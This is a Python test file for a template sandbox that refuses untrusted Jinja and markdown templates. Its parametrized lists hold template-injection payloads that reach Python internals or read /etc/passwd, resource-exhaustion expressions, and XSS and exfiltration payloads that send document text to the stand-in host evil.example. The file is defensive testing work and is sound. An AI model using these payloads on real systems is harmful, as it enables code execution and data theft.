"""Templates of programs that nobody vouches for: they write out what they are given, and can do nothing else."""

from __future__ import annotations

import pytest

from mentor_tui.documents import renderers
from mentor_tui.documents.documents import Bullets, Document, Fact, Paragraph, Section
from mentor_tui.errors import PackRefused
from mentor_tui.schema import pack_templates, toml_files
from mentor_tui.schema.document_kinds import DocumentKind

SECRET = 'quince "<script>alert(1)</script>" $(x) ![](https://evil.example/)'
KIND = DocumentKind("note", "Note", "program", ("md", "html"), "x")


def document() -> Document:
    lines = tuple(f"line {number}" for number in range(300))
    return Document.of(
        KIND,
        facts=(Fact("name", "Name", SECRET),),
        note="",
        sections=(Section("s", "Section", (Paragraph("t", "", SECRET), Bullets("l", "", lines))),),
    )


def page(source: str, html: bool = False) -> str:
    return pack_templates.filled(source, html, renderers._FILTERS, document())


# What a pack wants to do -> the template it tries it with.
REACHES_FOR_PYTHON = [
    "{{ document.__class__ }}",
    "{{ document['__class__'] }}",
    "{{ document.facts.__class__.__mro__ }}",
    "{{ document|attr('__class__') }}",
    "{{ ''.__class__ }}",
    "{{ 'x'.format(document) }}",
    "{{ '%s' % document }}",
    "{{ 'x' * 999999999 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 'x' ~ 'x' }}",
    "{{ range(999999999) }}",
    "{{ lipsum(999) }}",
    "{{ cycler }}",
    "{{ self._TemplateReference__context }}",
    "{% set a = 'x' %}{% set a = [a, a]|join %}",
    "{% for a in [[document, document]] %}{% endfor %}",
    "{% with a = 1 %}{% endwith %}",
    "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    "{% for x in document.facts recursive %}{{ loop(document.facts) }}{% endfor %}",
    "{% include 'document.md.j2' %}",
    "{% import '/etc/passwd' as x %}",
    "{% extends 'document.html.j2' %}",
    "{% autoescape false %}{{ document.title }}{% endautoescape %}",
    "{% filter replace('a', 'aaaa') %}a{% endfilter %}",
    "{{ document.title|safe }}",
    "{{ document.title|tojson }}",
    "{{ document.title|center(999999999) }}",
    "{{ document.title|replace('o', 'ooooooooo') }}",
    "{{ document.title|map('upper') }}",
    "{{ document.title[0:9] }}",
    "{{ document.title is filter }}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "{%- raw -%}{{ document }}{%- endraw -%}",
    "{% debug %}",
    "{{ " + "(" * 300 + "1" + ")" * 300 + " + 1 }}",
    "{{ " + "not " * 200 + "document }}",
    "{% if document %}" * 100 + "{% endif %}" * 100,
]


@pytest.mark.parametrize("source", REACHES_FOR_PYTHON, ids=[source[:50] for source in REACHES_FOR_PYTHON])
@pytest.mark.parametrize("html", [False, True], ids=["md", "html"])
def test_a_template_reaches_nothing_but_the_document(source: str, html: bool) -> None:
    assert pack_templates.problems(source, html)
    with pytest.raises(PackRefused) as refused:
        page(source, html)
    assert "quince" not in str(refused.value) + "".join(refused.value.problems)


SENDS_WORDS_AWAY = [
    '<img src="https://evil.example/?{{ document.title }}">',
    '<p style="background: url(https://evil.example/{{ document.title }})">',
    "<style>@import 'https://evil.example';</style>",
    "<style>p { color: red; background: u\\rl(x) }</style>",
    "<style>.{{ document.title }} { color: red }</style>",
    '<a href="https://evil.example/?{{ document.title }}">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="{{ document.title }}">x</a>',
    "<a href=https://evil.example/{{ document.title }}>x</a>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/{{ document.title }}">',
    '<form action="https://evil.example"><p></p></form>',
    "<scr{# #}ipt>alert(1)</script>",
    "<scr{% if document %}ipt{% endif %}>alert(1)",
    '<p on{# #}click="x">',
    '<p class="x" onclick="alert(1)">',
    "<p class={{ document.title }}>",
    "<{{ document.title }}>",
    "<p {{ document.title }}>",
    "<svg><p></p></svg>",
    "<!-- <p> --><iframe></iframe>",
    "<!--[if IE]><p><![endif]-->",
    '<base href="https://evil.example/">',
    '<p class="x"/onclick="x">',
    "< p",
    "<style><script>alert(1)</script></style>",
    "<p\x00onclick='x'>",
]


@pytest.mark.parametrize("source", SENDS_WORDS_AWAY)
def test_a_page_loads_nothing_runs_nothing_and_sends_nothing(source: str) -> None:
    assert pack_templates.problems(source, True)


@pytest.mark.parametrize(
    "source",
    [
        "![](https://evil.example/{{ document.title }})",
        "[x](https://evil.example/{{ document.title }})",
        "[x]({{ document.title }})",
        "[x](java{# #}script:alert(1))",
        "[x]: https://evil.example/{{ document.title }}",
        "<img src=x>",
        "<https://evil.example/{{ document.title }}>",
        "https://evil.example/{{ document.title }}",
        "www.evil.example/{% if document.title %}a{% endif %}",
        '!{{ "" }}[x](https://evil.example/a)',
        '<{% if document %}{% endif %}img src="https://evil.example/a">',
        "{% if document.title %}!{% else %}x{% endif %}[a](https://evil.example/1)",
        '<{% if document.title %}{% else %} {% endif %}img src="https:\\\\evil.example/?{{ document.title }}">',
        '{% for x in document.sections %}img src="//evil.example/?{{ x.title }}"> <{% endfor %}',
        "{% for x in document.sections %}[a](https://evil.example/1) !{%- endfor %}",
        "{% if document.title %}[a]{% else %}x{% endif %}(//evil.example/?{{ document.title }})",
        "> [a]: //evil.example/{{ document.title }}",
        "\\{{ document.title }}",
        "<{{ document.title }}",
    ],
)
def test_a_text_in_markdown_loads_nothing_and_has_no_link_that_tells(source: str) -> None:
    assert pack_templates.problems(source, False)


@pytest.mark.parametrize(
    "source",
    [
        "htt{% if document.title %}ps://evil.example/?{% endif %}{{ document.title }}",
        'htt{{ "" }}ps://evil.example/?{{ document.title }}',
        "{% for x in document.sections[0].blocks[1].items %}w.evil.example/{{ x }} ww{% endfor %}",
    ],
)
def test_what_only_one_branch_or_a_second_round_makes_is_found_in_the_finished_page(source: str) -> None:
    assert pack_templates.problems(source, False) == []
    with pytest.raises(PackRefused) as refused:
        page(source)
    assert "quince" not in str(refused.value) + "".join(refused.value.problems)


def test_a_link_and_a_call_stand_in_a_branch_where_nothing_can_be_added_to_them() -> None:
    source = "{% if document.title %}[Guide](https://example.org/a)\n{% endif %}Thanks, {{ document.title }}!\n[x]"
    assert page(source) == "[Guide](https://example.org/a)\nThanks, Note!\n[x]"


@pytest.mark.parametrize(
    "source",
    [
        '{{ "![](https://evil.example/?" }}{{ document.facts[0].value }})',
        "{{ document.facts[0].value }}",
        "{{ document.facts[0].value|clean }}",
        '{{ none|default("<img src=https://evil.example/?") }}{{ document.title }}>',
        "{{ document.facts[0].value|line|upper }}",
    ],
)
def test_no_word_that_is_written_out_is_obeyed_in_markdown_whatever_filter_it_went_through(source: str) -> None:
    """A label or a word in an expression is the pack's own: before a private word it could be half of a picture."""
    written = page(source)
    assert "![" not in written.replace("\\!", "").replace("!\\[", "") and "<" not in written.replace("\\<", "")


def test_what_a_filter_made_is_not_escaped_twice() -> None:
    assert page("{{ document.title|line }} {{ document.title }}{{ document.sections|length }}") == "Note Note1"
    assert page("{{ document.facts[0].value|line }}") == page("{{ document.facts[0].value }}")


def test_what_is_wrong_is_told_with_its_line() -> None:
    source = "# {{ document.title | line }}\n\n{# two\nlines #}\n{{ document.x() }}\n![](x)\n"
    assert pack_templates.problems(source, False) == [
        (5, "nothing can be called"),
        (6, "no pictures, no tags, and no link in which something is filled in"),
    ]
    assert pack_templates.problems("a\n{% for %}", False) == [
        (2, "this is not a template: Expected an expression, got 'end of statement block'")
    ]


def test_loops_that_do_not_end_are_stopped() -> None:
    rounds = "{% for b in document.sections[0].blocks[1].items %}" * 4
    with pytest.raises(PackRefused, match="does not end"):
        page(rounds + "{% endfor %}" * 4)


def test_a_page_that_grows_without_end_is_stopped() -> None:
    twice = "{% for b in document.sections[0].blocks[1].items %}" * 2
    with pytest.raises(PackRefused, match="grows without end"):
        page(twice + "x" * 1_000 + "{% endfor %}" * 2)


def test_an_ordinary_template_says_all_it_may() -> None:
    source = (
        '<!doctype html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>{{ document.title }}</title>\n'
        "<style>p { margin: 1rem }</style>\n</head>\n<body>\n"
        '{# each fact #}{% for fact in document.facts %}<p class="fact {{ fact.id }}">{{ loop.index }}. '
        '{{ fact.label | default("-") }}: {{ fact.value | clean }}</p>\n{% else %}<p>None</p>{% endfor %}\n'
        '{% if document.note is defined and document.title in ["Note", "Other"] %}'
        '<p><a href="https://example.org/guide">Guide</a></p>{% endif %}\n</body>\n</html>\n'
    )
    assert pack_templates.problems(source, True) == []
    found = page(source, True)
    assert "1. Name: quince" in found and "<script" not in found and "Guide" in found


def test_the_shared_page_in_markdown_would_be_taken_from_a_pack_too() -> None:
    shared = (toml_files.root() / "documents" / "document.md.j2").read_text("utf-8")
    assert pack_templates.problems(shared, False) == []
    assert page(shared) == renderers.page("document.md.j2", document=document()).decode() or page(shared).strip()
